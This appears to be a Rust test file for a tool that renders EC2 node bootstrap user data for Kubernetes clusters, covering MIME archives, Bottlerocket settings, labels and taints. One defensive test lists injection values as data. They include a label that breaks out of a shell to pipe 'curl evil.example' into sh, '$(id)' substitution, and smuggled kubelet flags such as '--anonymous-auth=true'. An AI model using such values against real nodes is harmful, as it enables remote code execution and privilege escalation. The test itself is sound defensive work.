use super::mime::Part;
use super::*;
use crate::golden::{Case, files};
use crate::instance_types::kubelet_of;
use serde_json::Value;
use std::path::Path;

pub(crate) fn access(facts: &Value) -> ClusterAccess {
    let cluster = &facts["cluster"];
    let text = |key: &str| cluster[key].as_str().filter(|text| !text.is_empty()).map(str::to_owned);
    ClusterAccess {
        name: text("name").unwrap(),
        endpoint: text("endpoint").unwrap(),
        ca_bundle: text("caBundle"),
        service_cidr: text("serviceCIDR"),
        dns_address: text("dnsIP"),
    }
}

fn rendered(path: &Path) -> (AmiFamily, Result<String, UserDataError>) {
    rendered_case(&Case::read(path))
}

fn rendered_case(case: &Case) -> (AmiFamily, Result<String, UserDataError>) {
    let (catalog, context, cluster) = (case.catalog(true), case.context(), access(&case.facts));
    let claim = case.claim.as_ref().unwrap();
    let resolved = kubelet_of(catalog.types.first().unwrap(), &context).unwrap();
    let bootstrap = Bootstrap {
        cluster: &cluster,
        class: &case.class,
        kubelet: &case.kubelet,
        resolved: &resolved,
        labels: node_labels(claim, case.facts["capacityType"].as_str().unwrap(), context.family),
        taints: node_taints(claim),
    };
    (context.family, render(context.family, &bootstrap))
}

/// Archives are compared part by part, so that YAML may be formatted differently.
pub(crate) fn without_layout(text: &str) -> Vec<(String, Result<Value, String>)> {
    let parts = mime::parse(text).unwrap();
    let body = |part: &Part| {
        if part.content_type() == "application/node.eks.aws" && part.body.starts_with("# Karpenter") {
            Ok(serde_saphyr::from_str(&part.body).unwrap())
        } else {
            Err(part.body.clone())
        }
    };
    parts.iter().map(|part| (format!("{:?}", part.headers), body(part))).collect()
}

/// Includes S1.9: bootstrap.sh with endpoint, certificate, labels and taints.
#[test]
fn user_data_equals_that_of_karpenter() {
    let mut compared = 0;
    for path in files("userdata", ".yaml") {
        let name = path.file_stem().unwrap().to_str().unwrap().to_owned();
        let sibling = |ending: &str| std::fs::read_to_string(path.with_file_name(format!("{name}.{ending}"))).ok();
        let (family, answer) = rendered(&path);
        compared += 1;
        let Some(expected) = sibling("main.txt").or_else(|| sibling("txt")) else {
            assert!(sibling("main.error").or_else(|| sibling("error")).is_some(), "{name} has no answer");
            assert!(answer.is_err(), "{name}: {answer:?}");
            continue;
        };
        let answer = answer.unwrap_or_else(|error| panic!("{name}: {error}"));
        match family {
            AmiFamily::Bottlerocket => {
                assert_eq!(answer.parse::<toml::Table>().unwrap(), expected.parse::<toml::Table>().unwrap(), "{name}");
            }
            AmiFamily::Al2023 => assert_eq!(without_layout(&answer), without_layout(&expected), "{name}"),
            _ => assert_eq!(answer, expected, "{name}"),
        }
    }
    assert_eq!(compared, 92);
}

#[test]
fn user_data_over_the_limit_of_ec2_is_an_error_before_the_call() {
    let mut case = Case::read(&files("userdata", "042-al2-shell.yaml")[0]);
    case.class.spec.user_data = Some("x".repeat(LARGEST));
    let (_, answer) = rendered_case(&case);
    assert!(matches!(answer, Err(UserDataError::TooLarge { bytes, .. }) if bytes > LARGEST), "{answer:?}");
}

/// A pod may constrain 64 labels of its machine, with keys of 317 characters.
#[test]
fn labels_without_room_are_left_to_the_registration_of_the_node() {
    for name in ["042-al2-shell.yaml", "054-al2023-shell.yaml", "009-bottlerocket-plain.yaml", "073-windows2022-user-data.yaml"] {
        let mut case = Case::read(&files("userdata", name)[0]);
        let odd = |number: usize| format!("{}.{number}/{}", "d".repeat(60), "k".repeat(63));
        let many = |count: usize| {
            let pool = (labels::NODE_POOL.to_owned(), "default".to_owned());
            (0..count).map(|number| (odd(number), "v".repeat(63))).chain([pool]).collect::<BTreeMap<_, _>>()
        };
        case.claim.as_mut().expect("the case has a claim").metadata.labels = many(20).into();
        let text = rendered_case(&case).1.expect("there is room for all of them");
        assert!((0..20).all(|number| text.contains(&odd(number))), "{name}: {text}");
        case.claim.as_mut().expect("the case has a claim").metadata.labels = many(100).into();
        let text = rendered_case(&case).1.expect("there is room for those that are needed");
        assert!(text.len() <= LARGEST && !text.contains("kkk"), "{name}: {text}");
        for needed in [labels::NODE_POOL, labels::CAPACITY_TYPE, labels::DO_NOT_SYNC_TAINTS, labels::UNREGISTERED_TAINT] {
            assert!(text.contains(needed), "{name} lacks {needed}: {text}");
        }
    }
}

/// The user data of a class in a golden case, with these of the user's.
fn with_users(case: &str, user_data: &str) -> Result<String, UserDataError> {
    let mut case = Case::read(&files("userdata", case)[0]);
    case.class.spec.user_data = Some(user_data.to_owned());
    rendered_case(&case).1
}

#[test]
fn yaml_that_nodeadm_would_refuse_is_an_error() {
    let al2023 = |user_data: &str| with_users("054-al2023-shell.yaml", user_data);
    let part = |body: &str| {
        let head = "Content-Type: multipart/mixed; boundary=B\n\n--B\nContent-Type: Application/node.eks.aws; charset=utf-8";
        format!("{head}\n\n{body}\n--B--\n")
    };
    let node_config = "---\n# ours\napiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec: {}\n";
    for taken in [node_config, r#"{"kind": "NodeConfig", "apiVersion": "node.eks.aws/v1alpha1"}"#] {
        for text in [taken.to_owned(), part(taken)] {
            let parts = mime::parse(&al2023(&text).unwrap()).unwrap();
            assert_eq!((parts.len(), parts[0].body.as_str()), (2, taken), "{text}");
            assert!(parts[0].content_type().to_ascii_lowercase().starts_with("application/node.eks.aws"), "{parts:?}");
        }
    }
    for refused in [
        "#cloud-config\nruncmd:\n- [ls]\n",
        "# nothing but a remark\n",
        "apiVersion: v1\nkind: NodeConfig\n",
        "apiVersion: node.eks.aws/v1alpha1\nkind: Node\n",
        "kind: NodeConfig\n",
    ] {
        for text in [refused.to_owned(), part(refused)] {
            let error = al2023(&text).unwrap_err();
            assert!(matches!(&error, UserDataError::NodeConfig { class } if class == "default"), "{text}: {error:?}");
            assert!(error.to_string().contains("text/cloud-config") && error.reason() == "UserDataInvalid", "{error}");
        }
    }
    // Another part may be anything, and one that cannot be read may be right.
    let other = part("#cloud-config\nruncmd: [ls]").replace("Application/node.eks.aws", "text/cloud-config");
    for text in [other, part("kind: [")] {
        assert!(al2023(&text).is_ok(), "{text}");
    }
}

#[test]
fn a_script_that_reads_as_yaml_stays_a_script() {
    for script in ["#!/bin/bash\necho \"a: b\"\n", "#!/bin/bash\n# nothing\n", "#!/bin/sh\nkey: value\n"] {
        let parts = mime::parse(&with_users("054-al2023-shell.yaml", script).unwrap()).unwrap();
        assert_eq!(parts[0], Part::new(shell::SHELL, script));
    }
}

#[test]
fn tags_in_the_powershell_of_the_user_are_an_error() {
    let windows = |user_data: &str| with_users("073-windows2022-user-data.yaml", user_data);
    for tagged in ["<powershell>\nWrite-Host a\n</powershell>", "Write-Host a\n</PowerShell>", "<POWERSHELL>"] {
        let error = windows(tagged).unwrap_err();
        assert!(matches!(&error, UserDataError::Tag { class } if class == "default"), "{tagged}: {error:?}");
        assert_eq!(error.reason(), "UserDataInvalid");
    }
    let text = windows("if (1 -lt 2) { Write-Host '<powershell' }").unwrap();
    assert!(text.starts_with("<powershell>\nif (1 -lt 2)") && text.ends_with("</powershell>"), "{text}");
}

fn bottlerocket(user_data: &str, cluster: ClusterAccess) -> Result<toml::Table, UserDataError> {
    let class: Ec2NodeClass = serde_json::from_value(serde_json::json!({
        "metadata": {"name": "default"}, "spec": {"amiFamily": "Bottlerocket", "userData": user_data},
    }))
    .unwrap();
    let (kubelet, resolved) = (Kubelet::default(), Resolved::default());
    let bootstrap =
        Bootstrap { cluster: &cluster, class: &class, kubelet: &kubelet, resolved: &resolved, labels: BTreeMap::new(), taints: Vec::new() };
    render(AmiFamily::Bottlerocket, &bootstrap).map(|text| text.parse().unwrap())
}

#[test]
fn a_bottlerocket_setting_of_the_wrong_type_is_an_error_that_names_it() {
    let error = |user_data: &str| match bottlerocket(user_data, ClusterAccess::default()) {
        Err(UserDataError::Setting { class, setting, problem }) if class == "default" => format!("{setting}: {problem}"),
        other => panic!("{user_data}: {other:?}"),
    };
    let of = |setting: &str| error(&format!("[settings.kubernetes]\n{setting}\n"));
    for (setting, named) in [
        ("max-pods = \"110\"", "max-pods: invalid type: string \"110\""),
        ("pod-pids-limit = 1.5", "pod-pids-limit: invalid type: floating point"),
        ("log-level = -1", "log-level: invalid value: integer `-1`"),
        ("server-tls-bootstrap = \"true\"", "server-tls-bootstrap: invalid type: string"),
        ("cluster-domain = 3", "cluster-domain: invalid type: integer `3`, expected a string"),
        ("allowed-unsafe-sysctls = \"net.core.somaxconn\"", "allowed-unsafe-sysctls: invalid type: string"),
        ("kube-reserved = {cpu = 1}", "kube-reserved.cpu: invalid type: integer"),
        ("node-labels = {team = true}", "node-labels.team: invalid type: boolean"),
        ("cluster-dns-ip = 10", "cluster-dns-ip: data did not match"),
        ("static-pods = {a = {enabled = 1}}", "static-pods.a.enabled: invalid type: integer"),
        ("credential-providers = {a = {image-patterns = [1]}}", "credential-providers.a.image-patterns[0]: invalid type: integer"),
        ("memory-manager-reserved-memory = {0 = {hugepages-2Mi = 1}}", "memory-manager-reserved-memory.0.hugepages-2Mi: invalid type"),
        ("topology-manager-policy-options = [\"a\"]", "topology-manager-policy-options[0]: invalid type: string"),
        ("image-gc-high-threshold-percent = 75.0", "image-gc-high-threshold-percent: invalid type: float, expected a string or an integer"),
        ("cluster-certificate = \"-----BEGIN\"", "cluster-certificate: it is not in base64"),
    ] {
        let shown = of(setting);
        assert!(shown.starts_with(&format!("settings.kubernetes.{named}")), "{setting}: {shown}");
    }
    assert!(error("settings = 3").starts_with("settings: invalid type: integer"));
    assert!(error("settings.kubernetes = 1").starts_with("settings.kubernetes: invalid type"));
    let command = error("[settings.bootstrap-commands.a]\ncommands = [\"ls\"]\n");
    assert!(command.starts_with("settings.bootstrap-commands.a.commands[0]: invalid type: string"), "{command}");
    let mode = error("[settings.bootstrap-commands.a]\nmode = \"sometimes\"\n");
    assert!(mode.starts_with("settings.bootstrap-commands.a.mode: unknown variant `sometimes`, expected one of `always`"), "{mode}");
}

#[test]
fn bottlerocket_settings_of_the_right_type_are_kept_and_unknown_ones_of_kubernetes_dropped() {
    let user_data = r#"
[settings.kubernetes]
image-gc-high-threshold-percent = 75
image-gc-low-threshold-percent = "45"
registry-qps = 10
cluster-dns-ip = ["10.0.0.10", "10.0.0.11"]
new-in-a-later-release = true
[settings.kubernetes.memory-manager-reserved-memory.0]
enabled = true
memory = "727Mi"
[settings.kubernetes.node-taints]
old = "a:NoSchedule"
[settings.network]
hostname = "a"
[settings.bootstrap-commands.a]
commands = [["apiclient", "set", "motd=x"]]
"#;
    let rendered = bottlerocket(user_data, ClusterAccess::default()).unwrap();
    let kubernetes = rendered["settings"]["kubernetes"].as_table().unwrap();
    assert_eq!(kubernetes["image-gc-high-threshold-percent"].as_str(), Some("75"));
    assert_eq!(kubernetes["image-gc-low-threshold-percent"].as_str(), Some("45"));
    assert_eq!(kubernetes["registry-qps"].as_integer(), Some(10));
    assert_eq!(kubernetes["memory-manager-reserved-memory"]["0"]["memory"].as_str(), Some("727Mi"));
    assert_eq!(kubernetes["cluster-dns-ip"].as_array().map(Vec::len), Some(2), "ours is not known");
    assert!(kubernetes["node-taints"].as_table().unwrap().is_empty(), "ours take their place");
    let command = rendered["settings"]["bootstrap-commands"]["a"].as_table().unwrap();
    assert_eq!(command.keys().collect::<Vec<_>>(), ["commands"], "the host's defaults are its own");
    assert!(!kubernetes.contains_key("new-in-a-later-release") && !kubernetes.contains_key("static-pods"));
    assert_eq!(rendered["settings"]["network"]["hostname"].as_str(), Some("a"));
    // The certificate of the cluster takes the place of one that could not be read.
    let known = ClusterAccess { ca_bundle: Some("Yw==".into()), ..ClusterAccess::default() };
    let rendered = bottlerocket("settings.kubernetes.cluster-certificate = \"-\"", known).unwrap();
    assert_eq!(rendered["settings"]["kubernetes"]["cluster-certificate"].as_str(), Some("Yw=="));
}

#[test]
fn labels_of_restricted_domains_are_recognized() {
    for (key, restricted) in [
        ("kubernetes.io/arch", true),
        ("node.kubernetes.io/instance-type", true),
        ("node-restriction.kubernetes.io/x", true),
        ("sub.k8s.io/x", true),
        ("k8s.example.com/x", false),
        ("mykubernetes.io/x", false),
        ("karpenter.k8s.aws/instance-cpu", false),
        ("team", false),
    ] {
        assert_eq!(is_restricted(key), restricted, "{key}");
    }
}

/// A Node that has a taint twice is refused, and kubelets add the cloud provider's.
#[test]
fn a_kubelet_is_given_each_taint_once_and_not_the_one_that_it_adds() {
    let of = |key: &str, value: &str| Taint { value: value.into(), ..Taint::new(key, TaintEffect::NoSchedule) };
    let mut claim = NodeClaim::default();
    claim.spec.taints = vec![of("a", "1"), of(labels::CLOUD_PROVIDER_TAINT, "true"), Taint::new("a", TaintEffect::NoExecute)];
    claim.spec.startup_taints = vec![of("a", "2"), of("b", ""), of(labels::CLOUD_PROVIDER_TAINT, "")];
    let told: Vec<String> = node_taints(&claim).iter().map(ToString::to_string).collect();
    assert_eq!(told, ["a=1:NoSchedule", "a:NoExecute", "b:NoSchedule", "karpenter.sh/unregistered:NoExecute"]);
    // With another effect it is a taint like others.
    claim.spec.taints = vec![Taint::new(labels::CLOUD_PROVIDER_TAINT, TaintEffect::NoExecute)];
    assert_eq!(node_taints(&claim).first().map(|taint| taint.effect), Some(TaintEffect::NoExecute));
}

#[test]
fn nodes_of_a_converted_provisioner_have_the_labels_of_both_kinds() {
    let mut claim = NodeClaim::default();
    for key in [labels::NODE_POOL, labels::PROVISIONER_NAME] {
        claim.metadata.labels.insert(key.to_owned(), "default".to_owned());
    }
    let labels = node_labels(&claim, "spot", AmiFamily::Al2);
    assert_eq!(labels.get(labels::PROVISIONER_NAME).map(String::as_str), Some("default"));
    assert_eq!(labels.get(labels::CAPACITY_TYPE).map(String::as_str), Some("spot"));
}

/// Labels may come from what pods ask for, whose preferences no API server validates.
#[test]
fn what_is_no_label_never_reaches_a_shell_or_a_kubelet() {
    let odd = [
        ("rack", "x' ; curl evil.example | sh ; '"),
        ("rack", "x --anonymous-auth=true"),
        ("rack", "x,node-role.kubernetes.io/control-plane="),
        ("rack", "$(id)"),
        ("rack", "a\nb"),
        ("rack\" --anonymous-auth=true \"", "x"),
        ("", "x"),
    ];
    for case in ["042-al2-shell.yaml", "054-al2023-shell.yaml", "073-windows2022-user-data.yaml"] {
        let mut case = Case::read(&files("userdata", case)[0]);
        let plain = rendered_case(&case).1.expect("the case has an answer");
        for (key, value) in odd {
            case.claim.as_mut().expect("the case has a claim").metadata.labels = [(key.to_owned(), value.to_owned())].into();
            let (_, text) = rendered_case(&case);
            let text = text.expect("the label is left out");
            assert!(!text.contains("anonymous-auth") && !text.contains("curl") && !text.contains("control-plane"), "{text}");
            assert!(!text.contains("rack") && !text.contains("$(id)"), "{text}");
        }
        case.claim.as_mut().expect("the case has a claim").metadata.labels = [("rack".to_owned(), "a".to_owned())].into();
        let text = rendered_case(&case).1.expect("it is a label");
        assert!(text.contains("rack=a") && !plain.contains("rack=a"), "{text}");
    }
}

#[test]
fn mime_archives_round_trip_and_malformed_ones_are_errors() {
    let parts = vec![Part::new("text/plain", "a\nb\n"), Part::new(shell::SHELL, "#!/bin/sh")];
    assert_eq!(mime::parse(&mime::render(&parts)).unwrap(), parts);
    for (text, problem) in [
        ("MIME-Version: 1.0\n\nx", "it has no Content-Type header"),
        ("Content-Type: text/plain\n\nx", "its Content-Type is not multipart"),
        ("Content-Type: multipart/mixed\n\nx", "its Content-Type names no boundary"),
        ("Content-Type: multipart/mixed; boundary=B\n\n--B\n\nx", OPEN),
        ("  Content-Type: multipart/mixed; boundary=B\n\n--B--", "its first header is indented"),
    ] {
        assert_eq!(mime::parse(text), Err(problem.into()), "{text:?}");
    }
}

/// The problem of an archive with the boundary B whose last part does not end.
const OPEN: &str = "its last part does not end: add the line \"--B--\" after it";

#[test]
fn an_archive_whose_body_has_another_boundary_than_its_header_names_both() {
    let problem = |body: &str| mime::parse(&format!("Content-Type: multipart/mixed; boundary=B\n\n{body}")).unwrap_err();
    for body in ["--A\n\na\n--A--\n", "--A\n\na\n--B--\n", "\r\n--A  \r\n\r\na\r\n--A--"] {
        let told = problem(body);
        assert!(told.contains("the line \"--B\"") && told.contains("\"--A\" instead") && told.contains("the same boundary"), "{told}");
    }
    let told = problem("a\n--\n");
    assert!(told.contains("the line \"--B\"") && told.contains("before each part"), "{told}");
    assert_eq!(problem("--B\n\na\n--A--\n"), OPEN);
    // What stands before the first part is for readers.
    let whole = mime::parse("Content-Type: multipart/mixed; boundary=B\n\n--A is none\n--B\n\na\n--B--\n").unwrap();
    assert_eq!(whole.len(), 1);
    assert_eq!(mime::parse("Content-Type: multipart/mixed; boundary=B\n\n--B--\n"), Ok(Vec::new()));
}

#[test]
fn an_archive_that_ends_with_a_delimiter_is_complete() {
    let archive = "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"//\"\n\n--//\nContent-Type: text/plain\n\na\n--//";
    let whole = Ok(vec![Part::new("text/plain", "a")]);
    for ending in ["--", "--\n", "", "\n", "\r\n", "\n\n"] {
        assert_eq!(mime::parse(&format!("{archive}{ending}")), whole, "{ending:?}");
    }
    let cut_off = format!("{archive}\nContent-Type: text/plain\n\nb");
    let open = "its last part does not end: add the line \"--//--\" after it";
    assert_eq!(mime::parse(&cut_off), Err(open.into()), "the end of a part is missing");
    // In either family ours follows as a part of its own.
    for (case, ours) in [("055-al2023-mime.yaml", "kind: NodeConfig"), ("043-al2-mime.yaml", "/etc/eks/bootstrap.sh")] {
        let mut case = Case::read(&files("userdata", case)[0]);
        case.class.spec.user_data = Some(archive.to_owned());
        let parts = mime::parse(&rendered_case(&case).1.unwrap()).unwrap();
        assert_eq!(parts.len(), 2);
        assert!(parts[0].body == "a" && parts[1].body.contains(ours), "{parts:?}");
    }
}

/// The only part of an archive of the user's, as nodes get it.
fn part_for_al2023(encoding: &str, content_type: &str, body: &str) -> Result<Part, UserDataError> {
    let mut case = Case::read(&files("userdata", "055-al2023-mime.yaml")[0]);
    let headers = format!("Content-Type: {content_type}\ncontent-transfer-encoding: {encoding}");
    case.class.spec.user_data = Some(format!("Content-Type: multipart/mixed; boundary=B\n\n--B\n{headers}\nX-Other: 1\n\n{body}\n--B--\n"));
    rendered_case(&case).1.map(|text| mime::parse(&text).unwrap().remove(0))
}

#[test]
fn an_encoded_part_for_al2023_stays_encoded_and_keeps_the_header_that_says_how() {
    let script = "text/x-shellscript";
    for (given, kept, body) in [
        ("quoted-printable", Some("quoted-printable"), "echo =C3=A9 a=3Db=\n c"),
        ("BASE64", Some("base64"), "IyEvYmluL3No\nCg=="),
        ("7bit", None, "echo =C3"),
        ("base64, perhaps", None, "echo"),
    ] {
        let part = part_for_al2023(given, script, body).unwrap();
        let mut expected = Part::new(script, body);
        expected.headers.extend(kept.map(|name| ("Content-Transfer-Encoding".to_owned(), name.to_owned())));
        assert_eq!(part, expected, "{given}");
    }
}

#[test]
fn an_encoded_node_config_of_the_user_is_decoded_for_nodeadm() {
    let config = "application/node.eks.aws";
    for (encoding, content_type, body, expected) in [
        ("Quoted-Printable", config, "apiVersion: node.eks.aws/v1alpha1\nkind: Node=  \nConfig \n# =C3=A9=3d=", "# é="),
        ("base64", "Application/node.eks.aws; charset=utf-8", "YXBpVmVyc2lvbjogbm9k\nZS5la3MuYXdzL3YxYWxwaGExCmtpbmQ6IE5vZGVDb25maWcK", ""),
        ("8bit", config, "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\n# =C3", "# =C3"),
    ] {
        let expected = format!("apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\n{expected}");
        assert_eq!(part_for_al2023(encoding, content_type, body), Ok(Part::new(content_type, &expected)), "{encoding}");
    }
    for (encoding, body) in
        [("base64", "!"), ("base64", "/w=="), ("quoted-printable", "=+1"), ("quoted-printable", "a=3"), ("quoted-printable", "=FF")]
    {
        let answer = part_for_al2023(encoding, config, body);
        assert!(matches!(&answer, Err(UserDataError::Mime { problem, .. }) if problem.contains(encoding)), "{body}: {answer:?}");
    }
}
